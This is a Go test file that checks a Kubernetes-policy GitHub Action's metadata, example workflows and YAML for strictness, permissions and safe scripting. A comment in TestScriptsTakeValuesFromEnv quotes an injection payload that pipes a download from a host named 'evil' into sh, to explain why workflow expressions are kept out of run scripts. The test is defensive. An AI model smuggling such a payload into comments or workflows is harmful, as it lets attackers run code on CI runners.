package examples

import (
	"bufio"
	"bytes"
	"cmp"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"sigs.k8s.io/yaml"
)

// actionFile is the action's metadata at the repository root.
const actionFile = "../action.yml"

// covered says which test checks each kind of file under examples/; a file
// none of them matches fails TestEveryExampleIsChecked.
var covered = []struct{ glob, by string }{
	{"shop/*", "TestGitOpsManifests (the tree builds)"},
	{"shop/*/*", "TestGitOpsManifests (the tree builds)"},
	{"flux/*.yaml", "TestGitOpsManifests"},
	{"argocd/*.yaml", "TestGitOpsManifests"},
	{"workflows/kunerva.yml", "TestCommentWorkflow"},
	{"workflows/kunerva-check.yml", "TestCheckWorkflow, TestCheckScript"},
	{"llm/kunerva.yaml", "settings.TestLLMSettingsExample (parsed as the action and propose do, and its engine built)"},
	{"README.md", "read by people"},
	{"doc.go", "the package"},
	{"embed.go", "TestEmbeddedShopIsTheTree"},
	{"*_test.go", "the tests"},
}

func TestEveryExampleIsChecked(t *testing.T) {
	err := fs.WalkDir(os.DirFS("."), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		if !slices.ContainsFunc(covered, func(c struct{ glob, by string }) bool {
			ok, _ := path.Match(c.glob, p)
			return ok
		}) {
			t.Errorf("examples/%s is not checked by any test: add a check and list it in covered", p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestYAMLIsStrict parses every YAML document under examples/, and the
// action's metadata, as strictly as sigs.k8s.io/yaml can: a duplicate key
// or a syntax error fails.
func TestYAMLIsStrict(t *testing.T) {
	files := []string{actionFile}
	err := filepath.WalkDir(".", func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && (strings.HasSuffix(p, ".yaml") || strings.HasSuffix(p, ".yml")) {
			files = append(files, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		docs := documents(t, file)
		if len(docs) == 0 {
			t.Errorf("%s: no YAML documents", file)
		}
		for i, doc := range docs {
			if _, err := yaml.YAMLToJSONStrict(doc); err != nil {
				t.Errorf("%s: document %d: %v", file, i+1, err)
			}
		}
	}
}

// documents splits a file into its YAML documents, leaving out empty ones.
func documents(t *testing.T, file string) [][]byte {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	r := utilyaml.NewYAMLReader(bufio.NewReader(bytes.NewReader(data)))
	var docs [][]byte
	for {
		doc, err := r.Read()
		if errors.Is(err, io.EOF) {
			return docs
		}
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if len(bytes.TrimSpace(doc)) > 0 {
			docs = append(docs, doc)
		}
	}
}

// The shapes below hold every key the examples use, and only those, so a
// misspelt key fails the strict decoding instead of being ignored by GitHub.

type workflow struct {
	Name string `json:"name"`
	// sigs.k8s.io/yaml reads YAML 1.1, where the key on is the boolean true.
	On          map[string]*trigger `json:"true"`
	Permissions map[string]string   `json:"permissions"`
	Concurrency map[string]any      `json:"concurrency"`
	Env         map[string]string   `json:"env"`
	Jobs        map[string]job      `json:"jobs"`
}

type trigger struct {
	Types []string `json:"types"`
	Paths []string `json:"paths"`
}

type job struct {
	If     string `json:"if"`
	RunsOn string `json:"runs-on"`
	Steps  []step `json:"steps"`
}

type step struct {
	ID               string            `json:"id"`
	Name             string            `json:"name"`
	If               string            `json:"if"`
	Uses             string            `json:"uses"`
	With             map[string]any    `json:"with"`
	Run              string            `json:"run"`
	Shell            string            `json:"shell"`
	WorkingDirectory string            `json:"working-directory"`
	Env              map[string]string `json:"env"`
}

type action struct {
	Name        string            `json:"name"`
	Description string            `json:"description"`
	Author      string            `json:"author"`
	Branding    map[string]string `json:"branding"`
	Inputs      map[string]struct {
		Description string `json:"description"`
		Default     string `json:"default"`
	} `json:"inputs"`
	Outputs map[string]struct {
		Description string `json:"description"`
		Value       string `json:"value"`
	} `json:"outputs"`
	Runs struct {
		Using string `json:"using"`
		Steps []step `json:"steps"`
	} `json:"runs"`
}

func decodeStrict[T any](t *testing.T, file string) T {
	t.Helper()
	var v T
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := yaml.UnmarshalStrict(data, &v); err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	return v
}

// findStep returns the step with the given id.
func findStep(t *testing.T, file string, steps []step, id string) step {
	t.Helper()
	for _, s := range steps {
		if s.ID == id {
			return s
		}
	}
	t.Fatalf("%s: no step with id %q", file, id)
	return step{}
}

// The inputs issues 4 and 5 list, bot-login and llm-api-key-env, which
// package action reads, and version, with their defaults ("" for none).
var actionInputs = map[string]string{
	"token": "${{ github.token }}", "trigger": "/policy", "permission": "write",
	"config": ".github/kunerva.yaml", "tree-root": "", "cluster": "local", "kubeconfig": "",
	"engine": "", "llm-base-url": "", "llm-model": "", "llm-api-key-env": "", "labels": "", "bot-login": "", "version": "",
}

var actionOutputs = []string{"pull-request-number", "pull-request-url", "branch", "policy-path", "result", "engine", "request", "completed-reply-url"}

func TestAction(t *testing.T) {
	a := decodeStrict[action](t, actionFile)
	if a.Runs.Using != "composite" {
		t.Errorf("runs.using is %q, want composite", a.Runs.Using)
	}
	if got := slices.Sorted(maps.Keys(a.Inputs)); !slices.Equal(got, slices.Sorted(maps.Keys(actionInputs))) {
		t.Errorf("inputs are %v, want %v", got, slices.Sorted(maps.Keys(actionInputs)))
	}
	for name, def := range actionInputs {
		if in, ok := a.Inputs[name]; ok && (in.Default != def || in.Description == "") {
			t.Errorf("input %s: default %q, want %q; every input needs a description", name, in.Default, def)
		}
	}
	if got := slices.Sorted(maps.Keys(a.Outputs)); !slices.Equal(got, slices.Sorted(slices.Values(actionOutputs))) {
		t.Errorf("outputs are %v, want %v", got, actionOutputs)
	}
	for _, name := range actionOutputs {
		if want := "${{ steps.run.outputs." + name + " }}"; a.Outputs[name].Value != want {
			t.Errorf("output %s is %q, want %q", name, a.Outputs[name].Value, want)
		}
	}
	for i, s := range a.Runs.Steps {
		if s.Run != "" && s.Shell != "bash" {
			t.Errorf("step %d (%s): a composite action's run step needs shell: bash", i, s.Name)
		}
	}
	// Composite actions do not set INPUT_* themselves; the run step passes
	// each input under the name GitHub gives it for other kinds of action.
	run := findStep(t, actionFile, a.Runs.Steps, "run")
	if run.Run != "kunerva action" {
		t.Errorf("the run step runs %q, want kunerva action", run.Run)
	}
	for name := range actionInputs {
		key, want := "INPUT_"+strings.ToUpper(name), "${{ inputs."+name+" }}"
		if run.Env[key] != want {
			t.Errorf("the run step's env %s is %q, want %q", key, run.Env[key], want)
		}
	}
	uses := map[string]bool{}
	for _, s := range a.Runs.Steps {
		uses[strings.Split(s.Uses, "@")[0]] = true
	}
	for _, want := range []string{"actions/setup-go", "actions/cache"} {
		if !uses[want] {
			t.Errorf("the action does not use %s", want)
		}
	}
}

func TestCommentWorkflow(t *testing.T) {
	const file = "workflows/kunerva.yml"
	w := decodeStrict[workflow](t, file)
	wantOn := map[string][]string{
		"issue_comment":               {"created"},
		"pull_request_review_comment": {"created"},
		"pull_request_review":         {"submitted"},
	}
	if len(w.On) != len(wantOn) {
		t.Errorf("on: has %v, want %v", slices.Sorted(maps.Keys(w.On)), slices.Sorted(maps.Keys(wantOn)))
	}
	for event, types := range wantOn {
		if tr := w.On[event]; tr == nil || !slices.Equal(tr.Types, types) {
			t.Errorf("on.%s: want types %v", event, types)
		}
	}
	wantPerms := map[string]string{"contents": "write", "pull-requests": "write", "issues": "write"}
	if !maps.Equal(w.Permissions, wantPerms) {
		t.Errorf("permissions are %v, want exactly %v", w.Permissions, wantPerms)
	}
	if len(w.Jobs) != 1 {
		t.Fatalf("want one job, have %d", len(w.Jobs))
	}
	a := decodeStrict[action](t, actionFile)
	for name, j := range w.Jobs {
		for _, want := range []string{"'/policy'", "github.event.comment.body", "github.event.review.body", "!= 'Bot'"} {
			if !strings.Contains(j.If, want) {
				t.Errorf("jobs.%s.if does not mention %s: %s", name, want, j.If)
			}
		}
		var usesAction bool
		for _, s := range j.Steps {
			if !strings.HasPrefix(s.Uses, "kunerva/kunerva@") {
				continue
			}
			usesAction = true
			for in, v := range s.With {
				if _, ok := a.Inputs[in]; !ok {
					t.Errorf("jobs.%s: with.%s is not an input of the action", name, in)
				}
				if in == "trigger" && v != "/policy" {
					t.Errorf("jobs.%s: with.trigger is %v, but the job's condition looks for /policy", name, v)
				}
			}
		}
		if !usesAction {
			t.Errorf("jobs.%s does not use kunerva/kunerva", name)
		}
	}
	text := readFile(t, file)
	for _, want := range []string{"actions/create-github-app-token", "GITHUB_TOKEN", "do not start other"} {
		if !strings.Contains(text, want) {
			t.Errorf("%s: the note on App tokens does not mention %q", file, want)
		}
	}
}

func TestCheckWorkflow(t *testing.T) {
	const file = "workflows/kunerva-check.yml"
	w := decodeStrict[workflow](t, file)
	if tr, ok := w.On["pull_request"]; len(w.On) != 1 || !ok || (tr != nil && len(tr.Paths) > 0) {
		t.Errorf("on: want pull_request alone and no paths filter (a required check must always run), have %v", w.On)
	}
	if want := map[string]string{"contents": "read"}; !maps.Equal(w.Permissions, want) {
		t.Errorf("permissions are %v, want exactly %v", w.Permissions, want)
	}
	s := findStep(t, file, w.Jobs["validate"].Steps, "validate")
	for _, want := range []string{"kunerva check", "-o github", `--tree-root "${TREE_ROOT}"`, `--base "origin/${GITHUB_BASE_REF}"`} {
		if !strings.Contains(s.Run, want) {
			t.Errorf("the validate step does not run %s", want)
		}
	}
	// The merge base with the base branch needs the whole history.
	var fetchDepth any
	for _, st := range w.Jobs["validate"].Steps {
		if strings.HasPrefix(st.Uses, "actions/checkout@") {
			fetchDepth = st.With["fetch-depth"]
		}
	}
	if fmt.Sprint(fetchDepth) != "0" {
		t.Errorf("the checkout has fetch-depth %v, want 0", fetchDepth)
	}
}

// TestScriptsTakeValuesFromEnv: an expression inside a run script is pasted
// into the script before the shell reads it, so a comment saying
// `"; curl evil | sh; "` would run. Every value goes through env: instead.
func TestScriptsTakeValuesFromEnv(t *testing.T) {
	var scripts []struct{ where, run string }
	a := decodeStrict[action](t, actionFile)
	for i, s := range a.Runs.Steps {
		scripts = append(scripts, struct{ where, run string }{actionFile + " step " + stepName(i, s), s.Run})
	}
	for _, file := range []string{"workflows/kunerva.yml", "workflows/kunerva-check.yml"} {
		w := decodeStrict[workflow](t, file)
		for name, j := range w.Jobs {
			for i, s := range j.Steps {
				scripts = append(scripts, struct{ where, run string }{file + " jobs." + name + " step " + stepName(i, s), s.Run})
			}
		}
	}
	for _, s := range scripts {
		if strings.Contains(s.run, "${{") {
			t.Errorf("%s: the run script contains an expression; pass the value through env:", s.where)
		}
		if strings.Contains(s.run, "github.event.comment.body") {
			t.Errorf("%s: the run script reads the comment body", s.where)
		}
	}
}

func stepName(i int, s step) string {
	return fmt.Sprintf("%d (%s)", i+1, cmp.Or(s.ID, s.Name, s.Uses))
}

func readFile(t *testing.T, file string) string {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
